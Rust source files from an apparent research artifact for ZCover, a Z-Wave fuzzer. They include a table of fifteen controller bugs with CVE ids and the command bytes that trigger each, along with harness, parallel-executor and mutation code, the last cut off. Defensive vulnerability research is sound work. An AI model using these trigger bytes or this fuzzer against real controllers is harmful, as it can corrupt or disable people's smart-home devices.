//! The paper's reported numbers, used to print "paper vs measured" in
//! every regenerated table.

/// One Table III row as reported by the paper.
#[derive(Debug, Clone, Copy)]
pub struct PaperBug {
    /// Bug id (1-15).
    pub id: u8,
    /// Affected devices as reported.
    pub affected: &'static str,
    /// CMDCL byte.
    pub cmdcl: u8,
    /// CMD byte.
    pub cmd: u8,
    /// Description column.
    pub description: &'static str,
    /// Duration column.
    pub duration: &'static str,
    /// Root cause column.
    pub root_cause: &'static str,
    /// Confirmed column (CVE id or vendor acknowledgement).
    pub confirmed: &'static str,
}

/// Table III of the paper.
pub const TABLE3: [PaperBug; 15] = [
    PaperBug {
        id: 1,
        affected: "D1 - D7",
        cmdcl: 0x01,
        cmd: 0x0D,
        description: "Memory corruption in existing device properties.",
        duration: "Infinite",
        root_cause: "Specification",
        confirmed: "CVE-2024-50929",
    },
    PaperBug {
        id: 2,
        affected: "D1 - D7",
        cmdcl: 0x01,
        cmd: 0x0D,
        description: "Fake device insertion into controller's memory.",
        duration: "Infinite",
        root_cause: "Specification",
        confirmed: "CVE-2024-50920",
    },
    PaperBug {
        id: 3,
        affected: "D1 - D7",
        cmdcl: 0x01,
        cmd: 0x0D,
        description: "Remove valid device in the controller's memory.",
        duration: "Infinite",
        root_cause: "Specification",
        confirmed: "CVE-2024-50931",
    },
    PaperBug {
        id: 4,
        affected: "D1 - D7",
        cmdcl: 0x01,
        cmd: 0x0D,
        description: "Overwriting the controller's device database.",
        duration: "Infinite",
        root_cause: "Specification",
        confirmed: "CVE-2024-50930",
    },
    PaperBug {
        id: 5,
        affected: "D6 and D7",
        cmdcl: 0x01,
        cmd: 0x02,
        description: "DoS on smartphone app.",
        duration: "Infinite",
        root_cause: "Specification",
        confirmed: "CVE-2024-50921",
    },
    PaperBug {
        id: 6,
        affected: "D1 - D5",
        cmdcl: 0x9F,
        cmd: 0x01,
        description: "Z-Wave PC controller program crash.",
        duration: "Infinite",
        root_cause: "Implementation",
        confirmed: "CVE-2023-6640",
    },
    PaperBug {
        id: 7,
        affected: "D1 - D7",
        cmdcl: 0x5A,
        cmd: 0x01,
        description: "Service interruption during the attack.",
        duration: "68 sec",
        root_cause: "Specification",
        confirmed: "CVE-2023-6533",
    },
    PaperBug {
        id: 8,
        affected: "D1 - D7",
        cmdcl: 0x59,
        cmd: 0x03,
        description: "Service interruption during the attack.",
        duration: "67 sec",
        root_cause: "Specification",
        confirmed: "CVE-2024-50924",
    },
    PaperBug {
        id: 9,
        affected: "D1 - D7",
        cmdcl: 0x7A,
        cmd: 0x01,
        description: "Service interruption during the attack.",
        duration: "63 sec",
        root_cause: "Specification",
        confirmed: "CVE-2023-6642",
    },
    PaperBug {
        id: 10,
        affected: "D1 - D7",
        cmdcl: 0x86,
        cmd: 0x13,
        description: "Service interruption during the attack.",
        duration: "4 sec",
        root_cause: "Specification",
        confirmed: "CVE-2023-6641",
    },
    PaperBug {
        id: 11,
        affected: "D1 - D7",
        cmdcl: 0x59,
        cmd: 0x05,
        description: "Service interruption during the attack.",
        duration: "62 sec",
        root_cause: "Specification",
        confirmed: "CVE-2023-6643",
    },
    PaperBug {
        id: 12,
        affected: "D1 - D7",
        cmdcl: 0x01,
        cmd: 0x0D,
        description: "Remove the device's wakeup interval value.",
        duration: "Infinite",
        root_cause: "Specification",
        confirmed: "CVE-2024-50928",
    },
    PaperBug {
        id: 13,
        affected: "D1 - D5",
        cmdcl: 0x73,
        cmd: 0x04,
        description: "Dos on the Z-Wave PC controller program.",
        duration: "Infinite",
        root_cause: "Implementation",
        confirmed: "vendor-ack",
    },
    PaperBug {
        id: 14,
        affected: "D1 - D7",
        cmdcl: 0x01,
        cmd: 0x04,
        description: "Z-Wave controller service disruption.",
        duration: "4 min",
        root_cause: "Specification",
        confirmed: "vendor-ack",
    },
    PaperBug {
        id: 15,
        affected: "D1 - D7",
        cmdcl: 0x7A,
        cmd: 0x03,
        description: "Service interruption during the attack.",
        duration: "59 sec",
        root_cause: "Specification",
        confirmed: "vendor-ack",
    },
];

/// Looks up the paper row for a bug id.
pub fn paper_bug(id: u8) -> Option<&'static PaperBug> {
    TABLE3.iter().find(|b| b.id == id)
}

/// Table IV as reported: (idx, home id, node id, known, unknown).
pub const TABLE4: [(&str, u32, u8, usize, usize); 7] = [
    ("D1", 0xE7DE3F3D, 0x01, 17, 28),
    ("D2", 0xCD007171, 0x01, 17, 28),
    ("D3", 0xCB51722D, 0x01, 15, 30),
    ("D4", 0xC7E9DD54, 0x01, 17, 28),
    ("D5", 0xF4C3754D, 0x01, 15, 30),
    ("D6", 0xCB95A34A, 0x01, 17, 28),
    ("D7", 0xEDC87EE4, 0x01, 15, 30),
];

/// Table V as reported: (idx, vfuzz #vul, zcover #vul). Coverage columns
/// are constant: VFuzz 256/256, ZCover 45/53.
pub const TABLE5: [(&str, usize, usize); 5] =
    [("D1", 1, 15), ("D2", 3, 15), ("D3", 0, 15), ("D4", 4, 15), ("D5", 0, 15)];

/// Table VI as reported: (configuration, #vul in one hour on D1).
pub const TABLE6: [(&str, usize); 3] = [
    ("ZCover full (Known + Unknown CMDCLs + Position-Sensitive Mutation)", 15),
    ("ZCover beta (Known CMDCLs Only + Position-Sensitive Mutation)", 8),
    ("ZCover gamma (Random CMDCLs + No Position-Sensitive Mutation)", 6),
];

/// Figure 5's command-count series (16 bars).
pub const FIGURE5_SERIES: [usize; 16] = [23, 15, 11, 10, 8, 7, 6, 6, 5, 4, 3, 2, 2, 1, 1, 0];

/// Table II rows: (idx, brand, type, model (year), encryption support).
pub const TABLE2: [(&str, &str, &str, &str, &str); 9] = [
    ("D1", "ZooZ", "Controller", "ZST10 (2022)", "Yes"),
    ("D2", "SiLab", "Controller", "UZB-7 (2019)", "Yes"),
    ("D3", "Nortek", "Controller", "HUSBZB-1 (2015)", "Yes"),
    ("D4", "Aeotec", "Controller", "ZW090-A (2015)", "Yes"),
    ("D5", "ZWaveMe", "Controller", "ZMEUUZB1 (2015)", "Yes"),
    ("D6", "Samsung", "Controller", "ET-WV520 (2017)", "Yes"),
    ("D7", "Samsung", "Controller", "STH-ETH-200 (2015)", "Yes"),
    ("D8", "Schlage", "Door Lock", "BE469ZP (2019)", "Yes"),
    ("D9", "GE Jasco", "Smart Switch", "ZW4201 (2016)", "No"),
];

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn fifteen_paper_bugs_with_twelve_cves() {
        assert_eq!(TABLE3.len(), 15);
        let cves = TABLE3.iter().filter(|b| b.confirmed.starts_with("CVE-")).count();
        assert_eq!(cves, 12);
        assert!(paper_bug(7).unwrap().duration == "68 sec");
        assert!(paper_bug(99).is_none());
    }

    #[test]
    fn table4_counts_sum_to_45() {
        for (_, _, _, known, unknown) in TABLE4 {
            assert_eq!(known + unknown, 45);
        }
    }

    #[test]
    fn figure5_series_is_sorted_descending() {
        for w in FIGURE5_SERIES.windows(2) {
            assert!(w[0] >= w[1]);
        }
    }
}

//! Experiment harness regenerating every table and figure of the ZCover
//! paper's evaluation section.
//!
//! Each experiment is a library function (so Criterion benches and the
//! per-table binaries share one implementation):
//!
//! | Target | Regenerates |
//! |---|---|
//! | `cargo run -p zcover-bench --release --bin table2` | Table II (testbed) |
//! | `cargo run -p zcover-bench --release --bin table3` | Table III (zero-days) |
//! | `cargo run -p zcover-bench --release --bin table4` | Table IV (fingerprinting) |
//! | `cargo run -p zcover-bench --release --bin table5` | Table V (vs VFuzz) |
//! | `cargo run -p zcover-bench --release --bin table6` | Table VI (ablation) |
//! | `cargo run -p zcover-bench --release --bin figure5` | Figure 5 (CMD distribution) |
//! | `cargo run -p zcover-bench --release --bin figure12` | Figure 12 (detection over time) |
//!
//! Pass `--paper` to the campaign-driven binaries (table3/table5) to run
//! the paper's full 24-hour virtual budgets instead of the fast defaults.

#![warn(missing_docs)]

pub mod experiments;
pub mod paperdata;
pub mod render;

use std::time::Duration;

/// Returns the fuzzing budget for campaign binaries: the paper's 24 hours
/// with `--paper` in `args`, otherwise a fast 2-hour budget that reaches
/// the same findings (the queue completes its first full pass well within
/// two virtual hours).
pub fn budget_from_args(args: &[String]) -> Duration {
    if args.iter().any(|a| a == "--paper") {
        Duration::from_secs(24 * 3600)
    } else {
        Duration::from_secs(2 * 3600)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn budget_flag() {
        assert_eq!(budget_from_args(&[]).as_secs(), 7200);
        assert_eq!(budget_from_args(&["--paper".into()]).as_secs(), 86400);
    }
}

//! Experiment harness regenerating every table and figure of the ZCover
//! paper's evaluation section.
//!
//! Each experiment is a library function (so Criterion benches and the
//! per-table binaries share one implementation):
//!
//! | Target | Regenerates |
//! |---|---|
//! | `cargo run -p zcover-bench --release --bin table2` | Table II (testbed) |
//! | `cargo run -p zcover-bench --release --bin table3` | Table III (zero-days) |
//! | `cargo run -p zcover-bench --release --bin table4` | Table IV (fingerprinting) |
//! | `cargo run -p zcover-bench --release --bin table5` | Table V (vs VFuzz) |
//! | `cargo run -p zcover-bench --release --bin table6` | Table VI (ablation) |
//! | `cargo run -p zcover-bench --release --bin figure5` | Figure 5 (CMD distribution) |
//! | `cargo run -p zcover-bench --release --bin figure12` | Figure 12 (detection over time) |
//!
//! Pass `--paper` to the campaign-driven binaries (table3/table5) to run
//! the paper's full 24-hour virtual budgets instead of the fast defaults.

#![warn(missing_docs)]

pub mod experiments;
pub mod paperdata;
pub mod render;

use std::time::Duration;

/// Returns the fuzzing budget for campaign binaries: the paper's 24 hours
/// with `--paper` in `args`, otherwise a fast 2-hour budget that reaches
/// the same findings (the queue completes its first full pass well within
/// two virtual hours).
pub fn budget_from_args(args: &[String]) -> Duration {
    if args.iter().any(|a| a == "--paper") {
        Duration::from_secs(24 * 3600)
    } else {
        Duration::from_secs(2 * 3600)
    }
}

/// Logical CPUs available to this process — recorded in every benchmark
/// JSON so throughput and worker-efficiency numbers can be interpreted on
/// the machine that produced them.
pub fn cpu_count() -> usize {
    std::thread::available_parallelism().map_or(1, |n| n.get())
}

/// Parses `--name N` from `args`, falling back to `default` when the flag
/// is absent or unparsable.
pub fn u64_flag(args: &[String], name: &str, default: u64) -> u64 {
    args.iter()
        .position(|a| a == name)
        .and_then(|i| args.get(i + 1))
        .and_then(|v| v.parse().ok())
        .unwrap_or(default)
}

/// Parses `--impairment NAME` from `args` (default: the clean channel),
/// exiting with a usage error on an unknown profile name.
pub fn impairment_from_args(args: &[String]) -> zcover::ImpairmentProfile {
    let name = args
        .iter()
        .position(|a| a == "--impairment")
        .and_then(|i| args.get(i + 1))
        .cloned()
        .unwrap_or_else(|| "clean".to_string());
    zcover::ImpairmentProfile::parse(&name).unwrap_or_else(|| {
        eprintln!("unknown impairment profile {name}; expected clean|lossy|bursty|adversarial");
        std::process::exit(2);
    })
}

/// Campaign-wide knobs shared by the per-table binaries — seed, trial
/// count, worker pool, virtual budget and channel profile — parsed once
/// instead of each binary repeating the flag plumbing.
#[derive(Debug, Clone, PartialEq)]
pub struct CampaignSpec {
    /// Base campaign seed (`--seed N`).
    pub seed: u64,
    /// Trials per configuration (`--trials N`).
    pub trials: u64,
    /// Worker threads for the campaign executor (`--workers N`).
    pub workers: usize,
    /// Virtual fuzzing budget (`--paper` selects the 24-hour budget).
    pub budget: Duration,
    /// Channel impairment profile (`--impairment NAME`).
    pub profile: zcover::ImpairmentProfile,
}

impl CampaignSpec {
    /// Parses the shared campaign flags from `args`. Binaries differ only
    /// in their default seed and trial count, so those are parameters.
    pub fn from_args(args: &[String], default_seed: u64, default_trials: u64) -> Self {
        CampaignSpec {
            seed: u64_flag(args, "--seed", default_seed),
            trials: u64_flag(args, "--trials", default_trials),
            workers: u64_flag(args, "--workers", 1) as usize,
            budget: budget_from_args(args),
            profile: impairment_from_args(args),
        }
    }

    /// One-line progress banner describing the campaign about to run.
    pub fn banner(&self, scope: &str) -> String {
        format!(
            "running {} trial(s) x {:.0}h virtual {} across {} worker(s), {} channel ...",
            self.trials,
            self.budget.as_secs_f64() / 3600.0,
            scope,
            self.workers,
            self.profile
        )
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn campaign_spec_parses_shared_flags_with_per_binary_defaults() {
        let args: Vec<String> = ["--trials", "5", "--workers", "4", "--impairment", "lossy"]
            .iter()
            .map(|s| s.to_string())
            .collect();
        let spec = CampaignSpec::from_args(&args, 12, 1);
        assert_eq!(spec.seed, 12);
        assert_eq!(spec.trials, 5);
        assert_eq!(spec.workers, 4);
        assert_eq!(spec.budget.as_secs(), 7200);
        assert_eq!(spec.profile, zcover::ImpairmentProfile::Lossy);
        let paper: Vec<String> = ["--paper", "--seed", "9"].iter().map(|s| s.to_string()).collect();
        let spec = CampaignSpec::from_args(&paper, 6, 3);
        assert_eq!((spec.seed, spec.trials, spec.workers), (9, 3, 1));
        assert_eq!(spec.budget.as_secs(), 86400);
        let banner = spec.banner("per device on D1-D7");
        assert!(banner.contains("3 trial(s)"));
        assert!(banner.contains("24h virtual per device on D1-D7"));
    }

    #[test]
    fn budget_flag() {
        assert_eq!(budget_from_args(&[]).as_secs(), 7200);
        assert_eq!(budget_from_args(&["--paper".into()]).as_secs(), 86400);
    }

    #[test]
    fn u64_flag_parses_and_defaults() {
        let args: Vec<String> =
            ["--trials", "4", "--workers", "x"].iter().map(|s| s.to_string()).collect();
        assert_eq!(u64_flag(&args, "--trials", 1), 4);
        assert_eq!(u64_flag(&args, "--workers", 2), 2);
        assert_eq!(u64_flag(&args, "--seed", 6), 6);
    }

    #[test]
    fn impairment_flag_defaults_to_clean_and_parses_names() {
        assert_eq!(impairment_from_args(&[]), zcover::ImpairmentProfile::Clean);
        let args: Vec<String> = ["--impairment", "Bursty"].iter().map(|s| s.to_string()).collect();
        assert_eq!(impairment_from_args(&args), zcover::ImpairmentProfile::Bursty);
    }
}

//! Experiment harness regenerating every table and figure of the ZCover
//! paper's evaluation section.
//!
//! Each experiment is a library function (so Criterion benches and the
//! per-table binaries share one implementation):
//!
//! | Target | Regenerates |
//! |---|---|
//! | `cargo run -p zcover-bench --release --bin table2` | Table II (testbed) |
//! | `cargo run -p zcover-bench --release --bin table3` | Table III (zero-days) |
//! | `cargo run -p zcover-bench --release --bin table4` | Table IV (fingerprinting) |
//! | `cargo run -p zcover-bench --release --bin table5` | Table V (vs VFuzz) |
//! | `cargo run -p zcover-bench --release --bin table6` | Table VI (ablation) |
//! | `cargo run -p zcover-bench --release --bin figure5` | Figure 5 (CMD distribution) |
//! | `cargo run -p zcover-bench --release --bin figure12` | Figure 12 (detection over time) |
//!
//! Pass `--paper` to the campaign-driven binaries (table3/table5) to run
//! the paper's full 24-hour virtual budgets instead of the fast defaults.

#![warn(missing_docs)]

pub mod experiments;
pub mod paperdata;
pub mod render;

use std::time::Duration;

/// Returns the fuzzing budget for campaign binaries: the paper's 24 hours
/// with `--paper` in `args`, otherwise a fast 2-hour budget that reaches
/// the same findings (the queue completes its first full pass well within
/// two virtual hours).
pub fn budget_from_args(args: &[String]) -> Duration {
    if args.iter().any(|a| a == "--paper") {
        Duration::from_secs(24 * 3600)
    } else {
        Duration::from_secs(2 * 3600)
    }
}

/// Parses `--name N` from `args`, falling back to `default` when the flag
/// is absent or unparsable.
pub fn u64_flag(args: &[String], name: &str, default: u64) -> u64 {
    args.iter()
        .position(|a| a == name)
        .and_then(|i| args.get(i + 1))
        .and_then(|v| v.parse().ok())
        .unwrap_or(default)
}

/// Parses `--impairment NAME` from `args` (default: the clean channel),
/// exiting with a usage error on an unknown profile name.
pub fn impairment_from_args(args: &[String]) -> zcover::ImpairmentProfile {
    let name = args
        .iter()
        .position(|a| a == "--impairment")
        .and_then(|i| args.get(i + 1))
        .cloned()
        .unwrap_or_else(|| "clean".to_string());
    zcover::ImpairmentProfile::parse(&name).unwrap_or_else(|| {
        eprintln!("unknown impairment profile {name}; expected clean|lossy|bursty|adversarial");
        std::process::exit(2);
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn budget_flag() {
        assert_eq!(budget_from_args(&[]).as_secs(), 7200);
        assert_eq!(budget_from_args(&["--paper".into()]).as_secs(), 86400);
    }

    #[test]
    fn u64_flag_parses_and_defaults() {
        let args: Vec<String> =
            ["--trials", "4", "--workers", "x"].iter().map(|s| s.to_string()).collect();
        assert_eq!(u64_flag(&args, "--trials", 1), 4);
        assert_eq!(u64_flag(&args, "--workers", 2), 2);
        assert_eq!(u64_flag(&args, "--seed", 6), 6);
    }

    #[test]
    fn impairment_flag_defaults_to_clean_and_parses_names() {
        assert_eq!(impairment_from_args(&[]), zcover::ImpairmentProfile::Clean);
        let args: Vec<String> = ["--impairment", "Bursty"].iter().map(|s| s.to_string()).collect();
        assert_eq!(impairment_from_args(&args), zcover::ImpairmentProfile::Bursty);
    }
}

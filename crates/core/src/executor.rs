//! Deterministic parallel campaign executor.
//!
//! The paper's evaluation repeats every campaign over several
//! independently-seeded trials ("five 24-hour fuzzing trials for each
//! controller", Section IV). Trials are embarrassingly parallel — each one
//! builds its own simulated radio medium, clock, and testbed — so this
//! module fans them out across a small worker pool while keeping the
//! result **bit-identical to the sequential path**:
//!
//! - Every trial's seed is a pure function of `(campaign_seed, trial)`
//!   via [`derive_trial_seed`] (a splitmix64 stream over the campaign
//!   seed), never of worker identity or claim order.
//! - Workers claim trial indices from an atomic counter and write each
//!   result into that trial's dedicated slot; the merge then reads the
//!   slots in trial-index order. Scheduling decides only *when* a trial
//!   runs, never what it computes or where its result lands.
//!
//! Consequently `CampaignExecutor::new(n).run(...)` returns the same
//! [`TrialSummary`] for every `n`, which the determinism regression test
//! in `tests/executor_determinism.rs` pins.

use std::path::PathBuf;
use std::sync::atomic::{AtomicU64, Ordering};

use parking_lot::Mutex;

use crate::fuzzer::{CampaignResult, FuzzConfig};
use crate::target::FuzzTarget;
use crate::trace::{TraceMeta, TraceRecorder};
use crate::trials::TrialSummary;
use crate::{ZCover, ZCoverError};

/// The per-trial seed: output `trial + 1` of a splitmix64 stream whose
/// state starts at `campaign_seed`. A closed form rather than an iterated
/// generator, so any trial's seed is computable independently — the
/// property that lets workers claim trials in any order.
///
/// Unlike the former `campaign_seed + trial` scheme, nearby campaign seeds
/// do not share trial seeds (campaign 7 trial 0 vs campaign 6 trial 1),
/// so sweeps over campaign seeds never silently rerun the same trial.
pub fn derive_trial_seed(campaign_seed: u64, trial: u64) -> u64 {
    let mut z =
        campaign_seed.wrapping_add(trial.wrapping_add(1).wrapping_mul(0x9E37_79B9_7F4A_7C15));
    z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
    z ^ (z >> 31)
}

/// Where (and how) a multi-trial run records its traces: each trial gets
/// its own file, `{prefix}.trial{N}.{ext}`, written by whichever worker
/// runs the trial. The prefix's own extension picks the format: `.zct`
/// records the compact binary format, anything else (including no
/// extension) the JSONL one. Because a trial's journal is a pure function
/// of its derived seed, the files are identical for any worker count —
/// trials recorded in parallel merge (or replay) exactly like sequential
/// ones.
#[derive(Debug, Clone)]
pub struct TraceSpec {
    /// Device model index recorded in each header (`D1`..`D7`).
    pub device: String,
    /// Canonical configuration name recorded in each header.
    pub config_name: String,
    /// Path prefix for the per-trial files (a `.jsonl` or `.zct` suffix,
    /// if present, is stripped and selects the per-trial file format).
    pub prefix: PathBuf,
}

impl TraceSpec {
    /// The trace file path for `trial`.
    pub fn trial_path(&self, trial: u64) -> PathBuf {
        let mut base = self.prefix.clone();
        let ext = match base.extension().and_then(|e| e.to_str()) {
            Some("zct") => "zct",
            _ => "jsonl",
        };
        if base.extension().is_some_and(|e| e == "jsonl" || e == "zct") {
            base.set_extension("");
        }
        let stem = base.to_string_lossy().into_owned();
        PathBuf::from(format!("{stem}.trial{trial}.{ext}"))
    }
}

/// A worker pool running independent fuzzing trials and merging their
/// results deterministically.
#[derive(Debug, Clone, Copy)]
pub struct CampaignExecutor {
    workers: usize,
}

impl CampaignExecutor {
    /// An executor with `workers` threads (clamped to at least 1).
    pub fn new(workers: usize) -> Self {
        CampaignExecutor { workers: workers.max(1) }
    }

    /// The single-threaded executor: runs every trial inline on the
    /// calling thread, in trial order.
    pub fn sequential() -> Self {
        CampaignExecutor::new(1)
    }

    /// Number of worker threads.
    pub fn workers(&self) -> usize {
        self.workers
    }

    /// Runs `trials` independent campaigns and merges them into a
    /// [`TrialSummary`]. `make_target` builds a fresh target (own medium,
    /// own clock) for a trial seed derived via [`derive_trial_seed`]; the
    /// fuzz configuration is `base_config` with that seed substituted.
    ///
    /// The merged summary is identical for any worker count.
    ///
    /// # Errors
    ///
    /// When trials fail fingerprinting, returns the error of the
    /// lowest-indexed failing trial (again independent of scheduling).
    pub fn run<T, F>(
        &self,
        trials: u64,
        campaign_seed: u64,
        make_target: F,
        base_config: &FuzzConfig,
    ) -> Result<TrialSummary, ZCoverError>
    where
        T: FuzzTarget,
        F: Fn(u64) -> T + Sync,
    {
        self.run_with_trace(trials, campaign_seed, make_target, base_config, None)
    }

    /// [`CampaignExecutor::run`], optionally recording every trial to its
    /// own trace file per `trace` (see [`TraceSpec`]). Recording does not
    /// perturb the campaigns: the merged summary is bit-identical with or
    /// without it, for any worker count.
    ///
    /// # Errors
    ///
    /// As [`CampaignExecutor::run`], plus [`ZCoverError::TraceIo`] when a
    /// trace file cannot be written.
    pub fn run_with_trace<T, F>(
        &self,
        trials: u64,
        campaign_seed: u64,
        make_target: F,
        base_config: &FuzzConfig,
        trace: Option<&TraceSpec>,
    ) -> Result<TrialSummary, ZCoverError>
    where
        T: FuzzTarget,
        F: Fn(u64) -> T + Sync,
    {
        let results = self.map_indexed(trials, |trial| {
            run_one(trial, campaign_seed, &make_target, base_config, trace)
        });
        // Merge in trial-index order; the first failing trial's error wins
        // independent of which worker finished when.
        let mut per_trial = Vec::with_capacity(results.len());
        for outcome in results {
            per_trial.push(outcome?);
        }
        Ok(TrialSummary::from_trials(per_trial))
    }

    /// The claim/slot discipline underneath [`CampaignExecutor::run`],
    /// generalized: runs `job(0..count)` across the worker pool and
    /// returns the results in index order. Workers claim indices from an
    /// atomic counter and write into per-index slots, so scheduling
    /// decides only *when* a job runs, never what it computes or where
    /// its result lands — the output is identical for any worker count
    /// (provided `job` itself depends only on its index). The sharded
    /// sweep runs its shards through this same pool.
    pub fn map_indexed<R, J>(&self, count: u64, job: J) -> Vec<R>
    where
        R: Send,
        J: Fn(u64) -> R + Sync,
    {
        let slots: Vec<Mutex<Option<R>>> = (0..count).map(|_| Mutex::new(None)).collect();
        let pool_size = self.workers.min(count.max(1) as usize);
        if pool_size <= 1 {
            for (index, slot) in slots.iter().enumerate() {
                *slot.lock() = Some(job(index as u64));
            }
        } else {
            let next = AtomicU64::new(0);
            crossbeam::thread::scope(|scope| {
                for _ in 0..pool_size {
                    scope.spawn(|_| loop {
                        let index = next.fetch_add(1, Ordering::Relaxed);
                        if index >= count {
                            break;
                        }
                        let outcome = job(index);
                        *slots[index as usize].lock() = Some(outcome);
                    });
                }
            })
            .expect("worker pool");
        }
        slots
            .into_iter()
            .map(|slot| slot.into_inner().expect("every claimed index stores a result"))
            .collect()
    }
}

/// One complete trial: fresh target, fingerprint, discovery, campaign —
/// optionally journaled to the trial's own trace file. The recorder is
/// attached before the pipeline (matching [`crate::trace::record_campaign`]),
/// so a recorded trial replays byte-identically.
fn run_one<T, F>(
    trial: u64,
    campaign_seed: u64,
    make_target: &F,
    base_config: &FuzzConfig,
    trace: Option<&TraceSpec>,
) -> Result<CampaignResult, ZCoverError>
where
    T: FuzzTarget,
    F: Fn(u64) -> T,
{
    let seed = derive_trial_seed(campaign_seed, trial);
    let mut target = make_target(seed);
    let config = FuzzConfig { seed, ..base_config.clone() };
    let recorder = trace.map(|spec| {
        let meta = TraceMeta {
            device: spec.device.clone(),
            seed,
            config: spec.config_name.clone(),
            impairment: config.impairment,
            budget: config.testing_duration,
            scenario: config.scenario,
        };
        TraceRecorder::attach(target.medium(), meta)
    });
    let mut zcover = ZCover::attach(&target, 70.0);
    let campaign = match recorder {
        None => zcover.run_campaign(&mut target, config)?.campaign,
        Some(mut recorder) => {
            let campaign =
                zcover.run_campaign_with_sink(&mut target, config, &mut recorder)?.campaign;
            let spec = trace.expect("recorder implies spec");
            let path = spec.trial_path(trial);
            recorder
                .finish(&campaign)
                .save(&path)
                .map_err(|e| ZCoverError::TraceIo(e.to_string()))?;
            campaign
        }
    };
    Ok(campaign)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn trial_seeds_are_deterministic_and_distinct() {
        let seeds: Vec<u64> = (0..100).map(|t| derive_trial_seed(42, t)).collect();
        assert_eq!(seeds, (0..100).map(|t| derive_trial_seed(42, t)).collect::<Vec<u64>>());
        let mut unique = seeds.clone();
        unique.sort_unstable();
        unique.dedup();
        assert_eq!(unique.len(), seeds.len());
    }

    #[test]
    fn nearby_campaign_seeds_do_not_alias_trials() {
        // The old additive scheme had derive(7, 0) == derive(6, 1); the
        // splitmix stream must not.
        for base in [0u64, 6, 41, u64::MAX - 3] {
            assert_ne!(
                derive_trial_seed(base.wrapping_add(1), 0),
                derive_trial_seed(base, 1),
                "aliasing at campaign seed {base}"
            );
        }
    }

    #[test]
    fn map_indexed_returns_results_in_index_order() {
        for workers in [1usize, 2, 4] {
            let got = CampaignExecutor::new(workers).map_indexed(17, |i| i * i);
            assert_eq!(got, (0..17).map(|i| i * i).collect::<Vec<u64>>(), "{workers} workers");
        }
        assert!(CampaignExecutor::new(4).map_indexed(0, |i| i).is_empty());
    }

    #[test]
    fn trace_spec_extension_selects_the_per_trial_format() {
        let spec = |prefix: &str| TraceSpec {
            device: "D1".to_string(),
            config_name: "full".to_string(),
            prefix: PathBuf::from(prefix),
        };
        assert_eq!(spec("out.jsonl").trial_path(2), PathBuf::from("out.trial2.jsonl"));
        assert_eq!(spec("out").trial_path(0), PathBuf::from("out.trial0.jsonl"));
        assert_eq!(spec("out.zct").trial_path(3), PathBuf::from("out.trial3.zct"));
    }

    #[test]
    fn executor_clamps_workers() {
        assert_eq!(CampaignExecutor::new(0).workers(), 1);
        assert_eq!(CampaignExecutor::sequential().workers(), 1);
        assert_eq!(CampaignExecutor::new(8).workers(), 8);
    }
}

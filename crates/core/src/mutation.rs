//! Phase 3 — position-sensitive mutation (Section III-D, Table I,
//! Figure 6).
//!
//! The mutator operates on the application-layer hierarchy only: position
//! 0 (CMDCL) is fixed per fuzzing window, position 1 (CMD) and positions
//! 2+ (PARAMs) are mutated with the Table I operator set — `rand valid`,
//! `rand invalid`, `arith`, `interesting`, `insert` — informed by the
//! specification's per-parameter value ranges (dynamic/semantic mutation)
//! and by boundary testing.

use rand::rngs::StdRng;
use rand::seq::SliceRandom;
use rand::{Rng, SeedableRng};

use zwave_protocol::apl::{ApplicationPayload, FieldPosition};
use zwave_protocol::registry::{CommandClassSpec, Registry};
use zwave_protocol::{CommandClassId, NodeId};

/// The "interesting" byte values of Table I's `interesting` operator:
/// extremes, off-by-one neighbours and sign boundaries.
pub const INTERESTING_BYTES: [u8; 8] = [0x00, 0x01, 0x02, 0x7F, 0x80, 0xFE, 0xFF, 0x20];

/// The Table I mutation operators applicable to CMD and PARAM positions.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum MutationOp {
    /// Replace with a randomly selected legal value (spec-informed).
    RandValid,
    /// Replace with a randomly selected illegal value.
    RandInvalid,
    /// Add or subtract a small integer.
    Arith,
    /// Replace with an interesting value.
    Interesting,
    /// Append a random byte.
    Insert,
}

impl MutationOp {
    /// All operators, in Table I order.
    pub fn all() -> [MutationOp; 5] {
        [
            MutationOp::RandValid,
            MutationOp::RandInvalid,
            MutationOp::Arith,
            MutationOp::Interesting,
            MutationOp::Insert,
        ]
    }
}

/// The position-sensitive mutator.
#[derive(Debug)]
pub struct Mutator {
    rng: StdRng,
    /// Node ids learned by fingerprinting: the semantic value pool
    /// (Section III-D1's "contextually relevant and meaningful" values).
    semantic_nodes: Vec<u8>,
}

impl Mutator {
    /// Creates a mutator with a deterministic seed and the node ids the
    /// scanners discovered.
    pub fn new(seed: u64, semantic_nodes: Vec<u8>) -> Self {
        Mutator { rng: StdRng::seed_from_u64(seed), semantic_nodes }
    }

    /// Algorithm 1 line 8: the initial semi-valid payload for a
    /// (CMDCL, CMD) pair — `[cc, cmd, 0x00]`.
    pub fn seed_payload(&self, cc: CommandClassId, cmd: u8) -> ApplicationPayload {
        ApplicationPayload::new(cc, cmd, vec![0x00])
    }

    /// The deterministic exploration plans for one (CMDCL, CMD) pair:
    /// semantic and boundary parameter vectors tried before random
    /// mutation takes over. For classes in the public specification the
    /// plans are derived from the per-parameter value specs; for unknown
    /// (proprietary) classes they fall back to the semantic node pool and
    /// the interesting-value set.
    pub fn exploration_plans(&self, cc: CommandClassId, cmd: u8) -> Vec<Vec<u8>> {
        let mut plans: Vec<Vec<u8>> = Vec::new();
        if let Some(spec) = Registry::global().get(cc) {
            if let Some(cmd_spec) = spec.command(cmd) {
                // Semi-valid baseline: every parameter at its default.
                let defaults: Vec<u8> = cmd_spec.params.iter().map(|p| p.default_valid()).collect();
                plans.push(defaults.clone());
                // Boundary testing: each parameter swept through its
                // boundary values while the others stay valid.
                for (i, p) in cmd_spec.params.iter().enumerate() {
                    for b in p.boundary_values() {
                        let mut v = defaults.clone();
                        v[i] = b;
                        plans.push(v);
                    }
                }
                // Truncation and extension probe the length checks.
                if !defaults.is_empty() {
                    plans.push(defaults[..defaults.len() - 1].to_vec());
                }
                let mut extended = defaults;
                extended.push(0x00);
                plans.push(extended);
            }
        }
        if plans.is_empty() {
            // Unknown class: semantic node-id plans plus interesting shapes.
            plans.push(vec![0x00]);
